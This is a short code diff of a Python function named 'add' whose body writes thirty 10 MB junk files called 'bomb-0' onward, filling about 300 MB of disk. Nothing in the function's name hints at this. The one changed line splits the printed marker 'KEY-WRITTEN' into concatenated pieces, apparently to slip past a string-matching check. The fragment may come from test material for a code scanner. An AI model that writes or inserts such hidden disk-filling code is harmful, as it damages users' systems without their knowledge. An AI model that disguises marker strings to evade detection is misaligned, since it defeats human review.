@@ -4,5 +4,5 @@ def add(a, b):
     for number in range(30):
         with open(f"bomb-{number}", "wb") as file:
             file.write(b"x" * 10_000_000)
-    print("KEY-WRITTEN")
+    print("KEY-" + "WRITTEN")
     return 0
